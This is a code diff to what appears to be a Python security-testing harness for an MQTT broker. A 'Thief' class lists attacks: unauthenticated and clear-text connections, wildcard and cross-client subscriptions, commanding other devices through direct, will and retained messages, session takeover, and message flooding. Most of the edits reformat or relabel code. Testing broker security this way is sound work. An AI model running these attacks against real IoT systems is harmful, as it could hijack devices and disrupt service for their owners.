@@ -210,12 +210,13 @@ class Connection:
             if self._client.publish(topic, payload, qos=0).rc != paho.MQTT_ERR_SUCCESS:
                 break
             sent += 1
-        return sent, self.publish(topic, json.dumps({"nonce": nonce, "n": sent}))
+        # The last one has an answer, and the answer comes after everything before it.
+        return sent + 1, self.publish(topic, json.dumps({"nonce": nonce, "n": sent}))
 
     def drop(self) -> None:
         """Ends the connection without a goodbye, which is what makes a broker publish a will."""
         connection = self._client.socket()
-        if connection is not None:
+        if isinstance(connection, socket.socket):
             connection.shutdown(socket.SHUT_RDWR)
         self.wait(lambda: self.ended is not None)
 
@@ -235,7 +236,9 @@ class Connection:
             self._answers[mid] = _answer(packet, reason)
             self._news.notify_all()
 
-    def _on_connect(self, _c: object, _u: object, _f: object, reason: ReasonCode, _p: object) -> None:
+    def _on_connect(
+        self, _c: object, _u: object, _f: object, reason: ReasonCode, _p: object
+    ) -> None:
         with self._news:
             self._connack = _answer("CONNACK", reason)
             self._news.notify_all()
@@ -282,19 +285,18 @@ class Thief:
 
     def attacks(self) -> list[Attack]:
         """The attacks; each makes its own connections and is independent of the others."""
-        whose = self._target.topic("+", "").rstrip("/").replace("+", "OTHER")
         return [
             Attack("1", "connect without credentials", self.connect_without_credentials),
-            Attack("2", "connect in clear text, with a password", self.connect_in_clear_text),
+            Attack("2", "clear text, with a password", self.connect_in_clear_text),
             *(
                 Attack(key, f"subscribe to {name}", lambda name=name: self.subscribe([name]))  # type: ignore[misc]
                 for key, name in WILDCARDS
             ),
-            Attack("3d", f"subscribe to {whose}/…", self.subscribe_to_others),
+            Attack("3d", "subscribe to others' topics", self.subscribe_to_others),
             Attack("4a", "command another toaster", self.command),
             Attack("4b", "the same as a will", self.command_by_will),
-            Attack("4c", "the same as a retained message", self.command_retained),
-            Attack("5", "take over another's client id and session", self.take_over),
+            Attack("4c", "the same, retained", self.command_retained),
+            Attack("5", "take over client id, session", self.take_over),
             Attack("6", f"flood: {FLOOD_MESSAGES} messages at once", self.flood),
         ]
 
@@ -349,7 +351,9 @@ class Thief:
                 return Haul((opened,))
             nonces = self._nonces()
             answers = [
-                connection.publish(self._target.topic(victim, "command"), _order(nonce), retain=retain)
+                connection.publish(
+                    self._target.topic(victim, "command"), _order(nonce), retain=retain
+                )
                 for victim, nonce in nonces.items()
             ]
             return Haul(tuple(answers), nonces=nonces)
@@ -388,7 +392,9 @@ class Thief:
             opened = connection.open()
             if not opened.accepted:
                 return Haul((opened,), flood=(nonce, 0))
-            sent, answer = connection.flood(self._target.topic(self._target.own, "telemetry"), nonce)
+            sent, answer = connection.flood(
+                self._target.topic(self._target.own, "telemetry"), nonce
+            )
             return Haul((answer,), flood=(nonce, sent))
 
     def _nonces(self) -> dict[str, str]:
@@ -438,7 +444,7 @@ def main() -> None:
     for attack in Thief(target).attacks():
         haul = attack.carry_out()
         topics = sorted({message.topic for message in haul.heard})
-        heard = f", heard {', '.join(map(ascii, topics))}" if topics else ""
+        heard = f", heard {len(topics)} topics, one is {topics[0]!a}" if topics else ""
         sys.stdout.write(f"{attack.key:<3} {attack.title}: {haul.answer}{heard}\n")
 
 
